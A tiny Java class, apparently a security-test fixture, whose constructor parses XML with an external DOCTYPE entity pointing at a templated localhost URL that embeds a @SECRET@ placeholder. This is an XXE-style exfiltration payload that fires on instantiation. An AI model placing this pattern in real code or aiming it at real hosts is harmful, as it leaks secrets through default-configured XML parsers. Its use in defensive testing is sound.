package hostile;

import java.io.StringReader;
import javax.xml.parsers.DocumentBuilderFactory;
import org.xml.sax.InputSource;

public final class Source {
    public Source() throws Exception {
        DocumentBuilderFactory.newInstance()
                .newDocumentBuilder()
                .parse(new InputSource(new StringReader("<!DOCTYPE x SYSTEM 'http://127.0.0.1:@TCP@/@SECRET@'><x/>")));
    }
}
